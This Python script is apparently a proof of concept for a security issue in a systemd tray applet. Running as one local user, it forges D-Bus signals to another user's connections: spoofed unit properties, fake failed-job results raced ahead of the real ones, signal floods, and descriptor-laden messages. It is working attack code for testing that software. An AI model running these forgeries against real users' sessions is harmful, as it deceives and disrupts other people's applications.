"""Forged D-Bus signals, unicast to another user's connections (run inside, as bob).

The system bus lets anyone send a signal, and one with a destination reaches
that connection whatever its match rules say: this is what a hostile local
user can do to alice's applet and CLI (issue 12).

    forge.py [--uid 2001] [--pid PID] props UNIT PROP=VALUE...  (serial 0xFFFFFFF0)
    forge.py ... listen SOCKET KIND ADDRESS [SECONDS]   a forged Listen, repeated
    forge.py ... jobs SECONDS      JobRemoved(failed) for every new job and the next ids
    forge.py ... flood COUNT       manager and bus-driver signals
    forge.py ... fds COUNT PER     signals each carrying PER descriptors (of /dev/null)

Targets: every connection of the given uid (and process, with --pid). Prints
how many messages it sent to how many connections.
"""

from __future__ import annotations

import argparse
import asyncio
import itertools
import os
import time
from typing import Any

from dbus_fast import BusType, Message, MessageType, Variant
from dbus_fast.aio import MessageBus

SYSTEMD = "org.freedesktop.systemd1"
MANAGER = "/org/freedesktop/systemd1"
MANAGER_IFACE = "org.freedesktop.systemd1.Manager"
DBUS = dict(destination="org.freedesktop.DBus", path="/org/freedesktop/DBus",
            interface="org.freedesktop.DBus")
HIGH_SERIAL = 0xFFFFFFF0


def unit_path(name: str) -> str:
    out = [ch if ch.isascii() and (ch.isalpha() or (ch.isdigit() and i)) else f"_{ord(ch):02x}"
           for i, ch in enumerate(name)]
    return f"{MANAGER}/unit/{''.join(out)}"


async def driver(bus: MessageBus, member: str, signature: str = "", body: Any = ()) -> Any:
    reply = await bus.call(Message(**DBUS, member=member, signature=signature, body=list(body)))
    ok = reply is not None and reply.message_type == MessageType.METHOD_RETURN
    return reply.body[0] if ok and reply.body else None


async def targets(bus: MessageBus, uid: int, pid: int | None) -> list[str]:
    found = []
    for name in await driver(bus, "ListNames") or []:
        if not name.startswith(":") or name == bus.unique_name:
            continue
        if await driver(bus, "GetConnectionUnixUser", "s", [name]) != uid:
            continue
        if pid is None or await driver(bus, "GetConnectionUnixProcessID", "s", [name]) == pid:
            found.append(name)
    return found


class Forger:
    def __init__(self, bus: MessageBus, dests: list[str]) -> None:
        self.bus, self.dests, self.sent = bus, dests, 0

    async def signal(self, path: str, interface: str, member: str, signature: str,
                     body: list[Any], serial: int = 0, fds: list[int] | None = None) -> None:
        for dest in self.dests:
            msg = Message(message_type=MessageType.SIGNAL, destination=dest, path=path,
                          interface=interface, member=member, signature=signature, body=body,
                          serial=serial, unix_fds=list(fds or []))
            await self.bus.send(msg)
            self.sent += 1
            if self.sent % 50 == 0:  # a round trip: dbus-fast treats a full socket as fatal
                await driver(self.bus, "GetId")

    async def props(self, unit: str, values: dict[str, Variant]) -> None:
        await self.signal(unit_path(unit), "org.freedesktop.DBus.Properties",
                          "PropertiesChanged", "sa{sv}as",
                          ["org.freedesktop.systemd1.Unit", values, []], HIGH_SERIAL)

    async def job_removed(self, job: int, unit: str) -> None:
        await self.signal(MANAGER, MANAGER_IFACE, "JobRemoved", "uoss",
                          [job, f"{MANAGER}/job/{job}", unit, "failed"])

    async def flood(self, count: int) -> None:
        for i in range(count):
            kind = i % 4
            if kind == 0:
                await self.signal(MANAGER, MANAGER_IFACE, "Reloading", "b", [False])
            elif kind == 1:
                await self.signal(MANAGER, MANAGER_IFACE, "UnitFilesChanged", "", [])
            elif kind == 2:
                name = f"forged-{i}.socket"
                await self.signal(MANAGER, MANAGER_IFACE, "UnitNew", "so", [name, unit_path(name)])
            else:
                await self.signal(DBUS["path"], DBUS["interface"], "NameOwnerChanged", "sss",
                                  [SYSTEMD, ":1.1", f":1.{100000 + i}"])


    async def descriptors(self, count: int, per: int) -> None:
        """``count`` signals to each target, each with ``per`` descriptors of /dev/null
        (a connection that did not negotiate fd passing gets none: the bus refuses)."""
        fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(per)]
        try:
            for _ in range(count):
                await self.signal(MANAGER, MANAGER_IFACE, "UnitFilesChanged", "", [], fds=fds)
        finally:
            for fd in fds:
                os.close(fd)


async def spray_jobs(forger: Forger, bus: MessageBus, seconds: float, uid: int) -> None:
    """JobRemoved(failed) for every job systemd announces (JobNew), at once, and
    every 20 ms for the next three ids, so the forgery arrives before the truth."""
    await driver(bus, "AddMatch", "s", [f"type='signal',sender='{SYSTEMD}',member='JobNew'"])
    await bus.call(Message(destination=SYSTEMD, path=MANAGER, interface=MANAGER_IFACE,
                           member="Subscribe"))
    print("subscribed", flush=True)
    latest = [0, "trayapp-testd.service"]

    async def aim_and_forge(job: int, unit: str) -> None:
        # The command that started this job is connected now: aim at it too.
        forger.dests = await targets(bus, uid, None)
        await forger.job_removed(job, unit)

    def on_message(msg: Message) -> None:
        if msg.member == "JobNew" and len(msg.body) == 3:
            latest[:] = [msg.body[0], msg.body[2]]
            asyncio.get_running_loop().create_task(aim_and_forge(msg.body[0], msg.body[2]))

    bus.add_message_handler(on_message)
    end = time.monotonic() + seconds
    for turn in itertools.count():
        if time.monotonic() >= end:
            break
        if turn % 5 == 0:  # alice's commands come and go: aim at the ones running now
            forger.dests = await targets(bus, uid, None)
        if latest[0]:
            for ahead in range(1, 4):
                await forger.job_removed(int(latest[0]) + ahead, str(latest[1]))
        await asyncio.sleep(0.02)


def parse_value(text: str) -> tuple[str, Variant]:
    prop, value = text.split("=", 1)
    return prop, Variant("s", value)


async def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--uid", type=int, default=2001)
    p.add_argument("--pid", type=int)
    p.add_argument("mode", choices=["props", "listen", "jobs", "flood", "fds"])
    p.add_argument("args", nargs="*")
    args = p.parse_args()
    bus = await MessageBus(bus_type=BusType.SYSTEM, negotiate_unix_fd=args.mode == "fds").connect()
    dests = await targets(bus, args.uid, args.pid)
    forger = Forger(bus, dests)
    if args.mode == "props":
        await forger.props(args.args[0], dict(parse_value(a) for a in args.args[1:]))
    elif args.mode == "listen":
        socket, kind, address = args.args[:3]
        end = time.monotonic() + float(args.args[3] if len(args.args) > 3 else 0)
        for _ in itertools.count():
            await forger.props(socket, {"Listen": Variant("a(ss)", [[kind, address]])})
            if time.monotonic() >= end:
                break
            await asyncio.sleep(0.2)
    elif args.mode == "jobs":
        await spray_jobs(forger, bus, float(args.args[0]), args.uid)
    elif args.mode == "fds":
        await forger.descriptors(int(args.args[0]), int(args.args[1]))
    else:
        await forger.flood(int(args.args[0]))
    print(f"forged {forger.sent} messages to {len(dests)} connections: {' '.join(dests)}",
          flush=True)
    bus.disconnect()


if __name__ == "__main__":
    asyncio.run(main())
